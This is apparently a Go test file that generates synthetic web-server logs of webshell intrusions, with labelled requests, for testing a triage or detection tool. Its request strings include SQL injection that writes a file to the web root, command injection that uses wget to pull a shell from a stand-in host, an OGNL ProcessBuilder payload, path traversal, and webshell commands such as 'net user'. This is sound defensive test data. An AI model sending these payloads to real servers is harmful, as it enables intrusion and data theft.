package triage_test

import (
	"fmt"
	"strings"
	"time"
)

// intrude plants a shell and uses it. How is drawn at random and told in the shell's kinds.
func (w *world) intrude() {
	at := w.between(.05, .85)
	foe := w.machine()
	agent := w.browser()
	visitor := w.chance(.15)
	if visitor {
		foe = w.person()
	}
	sh := &worldShell{path: w.shellPath()}
	plant := pick(w, []string{"sqli", "upload", "put", "move", "exploit", "wget", "cms", "named-exploit", "unseen", "unseen", "none-shown"})
	sh.kinds = append(sh.kinds, "plant "+plant)
	if visitor {
		sh.kinds = append(sh.kinds, "user visitor")
		w.visit(at-3*time.Hour, foe, agent, 4)
	}
	if plant == "unseen" { // before the log begins
		at = w.between(-.1, .1)
	} else {
		at = w.plant(sh, plant, at, foe, agent)
	}
	w.shells = append(w.shells, sh)
	w.use(sh, at+w.seconds(60), foe, agent)
	if visitor {
		w.visit(w.between(0, 1), foe, agent, 3)
	}
	if w.chance(.1) {
		two := &worldShell{path: w.shellPath(), kinds: []string{"plant by-shell"}}
		if two.path != sh.path {
			w.shells = append(w.shells, two)
			last := at + w.seconds(7200)
			w.hit(last-30*time.Second, foe, "POST "+sh.path, 200, 90, "", agent).plants = two
			w.entries[len(w.entries)-1].label = "webshell"
			w.use(two, last, foe, agent)
		}
	}
}

// shellPath draws where a shell lies and what it is called.
func (w *world) shellPath() string {
	name := pick(w, []string{"thumb2", "cache", "config_old", "x", "a1", "up", "footer", "class-mail", "db", "logo", "radio", "tunnel", "error", "help1", "wp-rss3", "style", "k7f3"})
	ext := w.ext
	switch {
	case ext == ".aspx" && w.chance(.3):
		ext = pick(w, []string{".ashx", ".asmx", ".asp"})
	case ext == ".php" && w.chance(.15):
		ext = pick(w, []string{".phtml", ".php5", ".php.jpg"})
	}
	dir := pick(w, []string{"/", w.uploads, w.pics, "", "/inc/", "new", w.uploads + "tmp/"})
	switch dir {
	case "":
		dir = pick(w, []string{"/admin/", "/css/", "/js/", "/shop/", "/includes/lib/"})
	case "new":
		dir = "/" + name + "/"
	}
	return dir + name + ext
}

// plant adds the requests that put the shell there and returns when it is.
func (w *world) plant(sh *worldShell, kind string, at time.Duration, foe, agent string) time.Duration {
	label := func(e *entry, l string) *entry { e.label = l; return e }
	page := pick(w, w.pages)
	// a look whether it is there already, sometimes
	if w.chance(.3) {
		label(w.hit(at-w.seconds(600), foe, "GET "+sh.path, 404, 210, "", agent), "probe")
	}
	switch kind {
	case "sqli":
		for i := range 3 + w.IntN(60) {
			at += w.seconds(3)
			label(w.hit(at, foe, fmt.Sprintf("GET %s?id=%d+UNION+ALL+SELECT+NULL,%d--+", page, i, i), pick(w, []int{200, 500}), 900, "", agent), "sqli")
		}
		at += w.seconds(60)
		label(w.hit(at, foe, fmt.Sprintf("GET %s?id=1+UNION+SELECT+'x',2+INTO+%s+'/var/www/html%s'--+", page, pick(w, []string{"OUTFILE", "DUMPFILE"}), sh.path), 200, 800, "", agent), "sqli").plants = sh
	case "upload":
		up := pick(w, []string{"/upload", "/account/avatar", "/gallery/add", "/support/attach"}) + w.ext
		w.visit(at-w.seconds(300), foe, agent, 2)
		w.hit(at-w.seconds(30), foe, "GET "+up, 200, 2000, w.link(page), agent)
		label(w.hit(at, foe, "POST "+up, pick(w, []int{200, 302}), 500, w.link(up), agent), "upload").plants = sh
	case "put":
		at += w.seconds(5)
		label(w.hit(at-w.seconds(9), foe, "OPTIONS /", 200, 0, "", agent), "probe")
		label(w.hit(at, foe, "PUT "+sh.path+pick(w, []string{"", "/", "%20"}), 201, 0, "", agent), "upload").plants = sh
	case "move":
		txt := sh.path[:strings.LastIndexByte(sh.path, '.')] + ".txt"
		label(w.hit(at-w.seconds(5), foe, "PUT "+txt, 201, 0, "", agent), "upload")
		label(w.hit(at, foe, "MOVE "+txt, 201, 0, "", agent), "upload").plants = sh
	case "exploit": // a hole whose request names no file
		hole := pick(w, []string{"POST /index.php?option=com_media&task=file.upload", "POST /telerik.web.ui.webresource.axd?type=rau",
			"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "POST /sites/all/modules/x.php?q=%24%7Bsystem%28%29%7D", "GET /index.action?redirect:%24%7B%23a%3D%28new+java.lang.ProcessBuilder%28%27sh%27%29%29.start%28%29%7D"})
		label(w.hit(at, foe, hole, 200, 300, "", agent), "rce").plants = sh
	case "wget":
		label(w.hit(at, foe, fmt.Sprintf("GET %s?host=127.0.0.1;wget+http://198.51.100.77/s.txt+-O+/var/www/html%s", page, sh.path), 200, 300, "", agent), "rce").plants = sh
	case "named-exploit":
		label(w.hit(at, foe, fmt.Sprintf("POST %s?file=../../../../var/www/html%s&action=save", page, sh.path), 200, 300, "", agent), "traversal").plants = sh
	case "cms":
		w.hit(at-w.seconds(200), foe, "GET /admin/login"+w.ext, 200, 2000, "", agent)
		label(w.hit(at-w.seconds(190), foe, "POST /admin/login"+w.ext, 302, 0, w.link("/admin/login"+w.ext), agent), "")
		w.hit(at-w.seconds(100), foe, "GET /admin/plugins"+w.ext, 200, 9000, w.link("/admin/"), agent)
		label(w.hit(at, foe, pick(w, []string{"POST /admin/plugin-install", "POST /admin/theme-editor", "POST /admin/filemanager/save", "POST /manager/html/deploy"})+w.ext, 200, 900, w.link("/admin/plugins"+w.ext), agent), "upload").plants = sh
	case "none-shown": // by another way: FTP, a stolen account
	}
	return at + w.seconds(90)
}

// use adds the visits to a shell.
func (w *world) use(sh *worldShell, at time.Duration, foe, agent string) {
	how := pick(w, []string{"post", "post", "post", "get", "mixed", "opaque-get", "tunnel", "veiled", "error500", "pathinfo"})
	n := pick(w, []int{2, 3, 6, 6, 15, 15, 60, 200})
	who := pick(w, []string{"one", "one", "several", "hopping"})
	agents := pick(w, []string{"browser", "browser", "old", "python", "random"})
	size := "uses few"
	if n > 3 {
		size = "uses many"
	}
	if how == "tunnel" {
		n, who = 800, "one"
	}
	sh.kinds = append(sh.kinds, "how "+how, size, "clients "+who, "agent "+agents)
	clients := []string{foe}
	if who == "several" {
		clients = append(clients, w.machine(), w.machine())
	}
	switch agents {
	case "old":
		agent = "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"
	case "python":
		agent = "python-requests/2.31.0"
	}
	left, pause := n, .0
	for left > 0 {
		burst := min(left, 2+w.IntN(15))
		if how == "tunnel" {
			burst = left
		}
		client := clients[w.IntN(len(clients))]
		if left == n {
			client = foe
		} else if who == "hopping" {
			client = w.machine()
		}
		if agents == "random" {
			agent = w.browser()
		}
		for range burst {
			w.shellHit(sh, at, how, client, agent)
			pause = 15
			if how == "tunnel" {
				pause = .6
			}
			at += w.seconds(pause)
		}
		left -= burst
		at += time.Duration(w.Float64() * float64(w.span) / 12)
		if at > w.span*95/100 && left > 0 {
			at = w.between(.9, .97) // hurry
		}
	}
	if w.chance(.15) {
		sh.kinds = append(sh.kinds, "scanned later")
		for range 3 {
			w.hit(min(at+w.seconds(3000), w.span-time.Minute), w.machine(), "GET "+sh.path, 200, 0, "", pick(w, []string{"", "Go-http-client/1.1"})).label = "probe"
		}
	}
}

func (w *world) shellHit(sh *worldShell, at time.Duration, how, client, agent string) {
	path, status, method, size := sh.path, 200, "POST", int64(20+w.IntN(3000))
	switch how {
	case "get":
		method, path = "GET", path+pick(w, []string{"?cmd=", "?c=", "?x=", "?exec="})+pick(w, []string{"whoami", "id", "dir+c:%5c", "ls+-la", "cat+config.php", "net+user", "uname+-a"})
	case "opaque-get":
		method, path = "GET", fmt.Sprintf("%s?p=%x%x", path, w.Uint64(), w.Uint32())
	case "mixed":
		method = pick(w, []string{"GET", "POST", "POST"})
	case "veiled":
		status = 404
	case "error500":
		status = 500
	case "pathinfo":
		path += pick(w, []string{"/x.jpg", "/a/b.css", "/"})
	case "tunnel":
		size = int64(w.IntN(1400))
		path += pick(w, []string{"?proxy", "?cmd=read", "?cmd=forward"})
	}
	e := w.hit(at, client, method+" "+path, status, size, "", agent)
	e.label, e.uses = "webshell", sh
}
